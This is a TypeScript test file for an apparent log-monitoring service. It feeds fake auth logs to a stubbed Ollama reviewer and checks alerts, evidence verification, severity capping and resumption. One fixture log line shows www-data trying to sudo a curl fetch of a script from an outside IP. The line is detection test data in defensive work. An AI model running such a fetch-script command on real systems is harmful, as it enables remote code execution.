/**
 * Periodic threat review over real ingest: Fluent Bit-shaped requests → store → review → Ollama
 * (the real client against a local server speaking its API) → `llm.review` alerts. Covers what
 * the model is shown, evidence verification, resumption and that nothing is reviewed twice.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { postRaw, startTestService } from '../helpers/service.js';
import { FakeOllama, type ChatRequestSeen } from '../helpers/fake-ollama.js';
import type { AlertingModule } from '../../alert-service/src/alerting/index.js';
import type { LlmModule } from '../../alert-service/src/llm/index.js';
import { condenseHost } from '../../alert-service/src/llm/review/condense.js';

const TOKEN = 'review-test-token';
let ollama: FakeOllama;
const dir = mkdtempSync(join(tmpdir(), 'logward-review-'));

before(async () => {
  ollama = await new FakeOllama().start();
});
after(async () => {
  await ollama.close();
  rmSync(dir, { recursive: true, force: true });
});

async function service() {
  const t = await startTestService(
    {
      ingest: { tokens: [TOKEN] },
      alerting: { geoip: { enabled: false } } as never,
      llm: { enabled: true, host: ollama.url, poll_interval_s: 3600, health_interval_s: 3600, review_interval_s: 0, summary_severities: [] },
    },
    { dir },
  );
  const base = `http://127.0.0.1:${await t.service.listen()}`;
  const llm = t.service.modules.find((m) => m.name === 'llm') as LlmModule;
  const alerting = t.service.modules.find((m) => m.name === 'alerting') as AlertingModule;
  return { t, base, llm, alerting };
}

let offset = 0;
async function ingest(base: string, host: string, lines: string[]) {
  const records = lines.map((log) => ({ fb_time: '2026-11-21T10:05:30.000Z', file: '/var/log/auth.log', offset: (offset += 200), log, hostname: host, source_kind: 'auth' }));
  const headers = { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip', Authorization: `Bearer ${TOKEN}`, 'X-Fluent-Tag': 'auth.var.log.auth.log' };
  assert.equal((await postRaw(base, '/v1/ingest', headers, gzipSync(JSON.stringify(records)))).status, 204);
}

const cron = (host: string, i: number) => `Nov 21 10:0${i % 10}:00 ${host} CRON[${1000 + i}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;
const SUSPICIOUS_LINE = 'Nov 21 10:05:40 web1 sudo:   www-data : user NOT in sudoers ; TTY=pts/3 ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.9/x.sh';

function refOf(prompt: string, needle: string): string {
  const line = prompt.split('\n').find((l) => l.includes(needle));
  assert.ok(line, `${needle} in the prompt`);
  return /^\[(E\d+)\]/.exec(line)![1]!;
}

test('condensing: templates with counts, security lines first with references, bounded', () => {
  const ev = (i: number, message: string, program: string, severity = 'info') =>
    ({ id: `id${i}`, time: '2026-11-21T10:00:00.000Z', received_at: '2026-11-21T10:00:01.000Z', host: 'web1', source: { kind: 'auth' as const }, program, severity, message, fields: {} }) as never;
  const events = [...Array.from({ length: 500 }, (_, i) => ev(i, `session opened for user root(uid=0) by (uid=${i})`, 'CRON')), ev(900, 'user NOT in sudoers ; COMMAND=/bin/sh', 'sudo', 'warning')];
  const c = condenseHost(events);
  assert.equal(c.total, 501);
  const security = c.sections.find((s) => s.title.startsWith('Security'))!;
  assert.match(security.lines.join('\n'), /\[E\d+\] 1× .* NOT in sudoers/);
  const common = c.sections.find((s) => s.title.startsWith('Most frequent'))!;
  assert.match(common.lines.join('\n'), /500× CRON session opened for user/, 'one template with its count, not 500 lines');
});

test('a suspicious verdict becomes an llm.review alert citing only events the model was shown; nothing is reviewed twice', async () => {
  const { t, base, llm, alerting } = await service();
  try {
    await ingest(base, 'web1', [...Array.from({ length: 40 }, (_, i) => cron('web1', i)), SUSPICIOUS_LINE]);
    await ingest(base, 'db1', Array.from({ length: 30 }, (_, i) => cron('db1', i)));
    await t.service.pump.notify();
    ollama.behaviour = (req: ChatRequestSeen) => {
      const prompt = req.messages[1]!.content;
      if (!prompt.includes('Host: web1')) return { kind: 'answer', content: JSON.stringify({ suspicious: false, severity: 'informational', findings: [], recommendations: [] }) };
      return {
        kind: 'answer',
        content: JSON.stringify({
          suspicious: true,
          severity: 'critical',
          findings: [{ title: 'Web user tried sudo to fetch a script', detail: 'www-data ran sudo curl to an external host', evidence: [refOf(prompt, 'NOT in sudoers'), 'E999'] }],
          recommendations: ['Inspect /var/www for a web shell'],
        }),
      };
    };
    const res = await fetch(`${base}/api/llm/review`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' });
    const run = (await res.json()) as { hosts: number; reviewed: number; alerts: number };
    assert.deepEqual({ hosts: run.hosts, reviewed: run.reviewed, alerts: run.alerts }, { hosts: 2, reviewed: 2, alerts: 1 });
    assert.equal(ollama.chats.length, 2);
    const web1Prompt = ollama.chats.find((c) => c.messages[1]!.content.includes('Host: web1'))!.messages[1]!.content;
    assert.match(web1Prompt, /Events stored between .* and .*: 41/);
    assert.match(web1Prompt, /40× CRON pam_unix\(cron:session\): session opened/);
    assert.ok(web1Prompt.indexOf('NOT in sudoers') > web1Prompt.indexOf('<<<LOGDATA'));
    assert.ok((ollama.chats[0]!.format as { required: string[] }).required.includes('suspicious'));

    const [alert, ...rest] = alerting.listAlerts({ rule: 'llm.review', limit: 10 });
    assert.equal(rest.length, 0);
    assert.equal(alert!.host, 'web1');
    assert.equal(alert!.source, 'llm');
    assert.equal(alert!.severity, 'high', 'the model alone never pages as critical');
    assert.equal(alert!.event_ids.length, 1, 'the invented reference E999 is dropped');
    const stored = t.service.store.query({ host: 'web1', limit: 100 }).find((e) => e.message.includes('NOT in sudoers'))!;
    assert.deepEqual(alert!.event_ids, [stored.id]);
    assert.match(alert!.summary, /Web user tried sudo/);

    // No new events: nothing to review. New events: only they are reviewed.
    ollama.chats.length = 0;
    await llm.review();
    assert.equal(ollama.chats.length, 0);
    await ingest(base, 'db1', [cron('db1', 77), cron('db1', 78)]);
    await t.service.pump.notify();
    await llm.review();
    assert.equal(ollama.chats.length, 1);
    assert.match(ollama.chats[0]!.messages[1]!.content, /Host: db1\nEvents stored between .*: 2\n/);
  } finally {
    await t.close();
  }
});

test('a run that fails for one host resumes after a restart with only that host', async () => {
  let first = await service();
  try {
    await ingest(first.base, 'web1', [cron('web1', 1), cron('web1', 2)]);
    await ingest(first.base, 'db1', [cron('db1', 1), cron('db1', 2), cron('db1', 3)]);
    await first.t.service.pump.notify();
    ollama.chats.length = 0;
    ollama.behaviour = (req: ChatRequestSeen) =>
      req.messages[1]!.content.includes('Host: db1')
        ? { kind: 'status', code: 500 }
        : { kind: 'answer', content: JSON.stringify({ suspicious: false, severity: 'low', findings: [], recommendations: [] }) };
    const run = await first.llm.review();
    assert.equal(run.reviewed, 1);
    assert.equal(run.failed, 1);
    assert.equal(first.llm.status().review.position, run.from_seq, 'position held while a host is unreviewed');
  } finally {
    await first.t.close();
  }
  first = await service();
  try {
    ollama.chats.length = 0;
    ollama.behaviour = { kind: 'answer', content: JSON.stringify({ suspicious: false, severity: 'low', findings: [], recommendations: [] }) };
    const run = await first.llm.review();
    assert.equal(ollama.chats.length, 1, 'web1 is not reviewed again');
    assert.match(ollama.chats[0]!.messages[1]!.content, /Host: db1\nEvents stored between .*: 3\n/);
    assert.equal(first.llm.status().review.position, run.to_seq);
  } finally {
    await first.t.close();
  }
});
